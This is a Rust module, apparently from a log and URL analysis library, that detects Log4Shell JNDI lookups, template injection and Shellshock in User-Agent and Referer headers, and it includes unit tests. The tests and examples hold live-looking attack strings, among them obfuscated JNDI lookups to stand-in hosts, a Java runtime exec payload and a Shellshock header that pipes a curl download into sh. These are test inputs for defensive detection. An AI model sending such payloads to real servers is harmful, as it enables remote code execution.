//! Request headers a log keeps beside the request's URL. An access log in
//! the combined format (Apache's and nginx's default) records the
//! `Referer`, which is a URL and is analysed as one, and the
//! `User-Agent`, which is text the client chose: a server that logs it
//! or renders it reads whatever an attacker wrote there. Log4Shell's
//! first mass attacks came in the `User-Agent` (CVE-2021-44228).
//!
//! [`text_header_warnings`] reads such a text for what the URL rules find
//! in any text a server logs, renders or hands to a program: Log4j
//! lookups (`jndi-lookup`), template expressions (`template-injection`)
//! and a bash function definition at its start (`shellshock`), worded for
//! the header they are in. The header is read as the log holds it (a
//! log's own escapes undone), not percent-decoded: no server decodes a
//! header.

use crate::analysis::checks::{lookup, shellshock, template};
use crate::split::Span;
use crate::warnings::Warning;

/// Whether a header's `value` starts with a bash function definition
/// (`shellshock`): text, then, even in a header that holds a URL (the
/// Referer), for [`text_header_warnings`] to read.
pub fn defines_function(value: &[u8]) -> bool {
    shellshock::defines_function(value)
}

/// The warnings of a request header's `value` that is text, not a URL
/// (`User-Agent`), named `name` in the messages; their spans point into
/// `value` and name no component.
///
/// # Examples
/// ```
/// use urlscope_core::headers::text_header_warnings;
/// use urlscope_core::WarningCode;
/// let w = text_header_warnings("User-Agent", b"${jndi:ldap://198.51.100.7:1389/a}");
/// assert_eq!(w[0].code, WarningCode::JndiLookup);
/// assert!(w[0].message.contains("logs this User-Agent header"));
/// assert!(text_header_warnings("User-Agent", b"Mozilla/5.0 (X11; Linux x86_64)").is_empty());
/// ```
pub fn text_header_warnings(name: &str, value: &[u8]) -> Vec<Warning> {
    let mut warnings = Vec::new();
    let what = format!("{name} header");
    if shellshock::defines_function(value) {
        let variable = format!("HTTP_{}", name.to_ascii_uppercase().replace('-', "_"));
        let span = Span::new(0, value.len());
        warnings.push(shellshock::warning(value, span, None, &what, &variable));
    }
    // Both need an opener's two bytes; most agents hold none.
    if !value.windows(2).any(template::opens) {
        return warnings;
    }
    lookup::input_lookup_warnings(value, |_| None, &what, &mut warnings);
    template::text_template_warnings(value, &what, &mut warnings);
    warnings.sort_by_key(|w| w.span.start);
    warnings
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::warnings::{Severity, WarningCode};

    #[test]
    fn lookups_and_templates_in_an_agent_are_found_at_their_bytes() {
        let agent = b"Mozilla/5.0 ${${lower:j}ndi:ldap://evil.example/a} {{7*7}}";
        let w = text_header_warnings("User-Agent", agent);
        let found: Vec<(WarningCode, &[u8])> = w
            .iter()
            .map(|w| (w.code, w.span.of(agent.as_slice())))
            .collect();
        assert_eq!(
            found,
            [
                (
                    WarningCode::JndiLookup,
                    &b"${${lower:j}ndi:ldap://evil.example/a}"[..]
                ),
                (WarningCode::TemplateInjection, &b"{{7*7}}"[..]),
            ]
        );
        assert!(w.iter().all(|w| w.component.is_none()));
        assert!(
            w[1].message.contains("renders this User-Agent header"),
            "{}",
            w[1].message
        );
        // A payload that reaches the runtime is high.
        let w = text_header_warnings(
            "User-Agent",
            b"${T(java.lang.Runtime).getRuntime().exec('id')}",
        );
        assert_eq!(w.len(), 1);
        assert_eq!(w[0].severity, Severity::High);
    }

    #[test]
    fn a_function_definition_at_the_start_is_shellshock() {
        let agent = b"() { :; }; /bin/bash -c 'curl http://198.51.100.7/x | sh'";
        let w = text_header_warnings("User-Agent", agent);
        assert_eq!(w.len(), 1);
        assert_eq!(w[0].code, WarningCode::Shellshock);
        assert_eq!(w[0].span.of(agent.as_slice()), agent);
        assert!(
            w[0].message.contains("as HTTP_USER_AGENT"),
            "{}",
            w[0].message
        );
        // Bash reads the first four bytes, space included.
        for near in [&b"x () { :; }; id"[..], b"(){ :; }; id", b"()  { :; }; id"] {
            assert!(text_header_warnings("Referer", near).is_empty());
        }
    }

    #[test]
    fn ordinary_agents_say_nothing() {
        for agent in [
            &b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"[..],
            b"curl/8.5.0",
            b"Googlebot/2.1 (+http://www.google.com/bot.html)",
            b"python-requests/2.31.0",
            b"-",
            b"",
            // A placeholder left unrendered, a lookup that is not JNDI.
            b"agent/${version}",
            b"x ${env:HOME}",
        ] {
            assert!(
                text_header_warnings("User-Agent", agent).is_empty(),
                "{}",
                String::from_utf8_lossy(agent)
            );
        }
    }
}
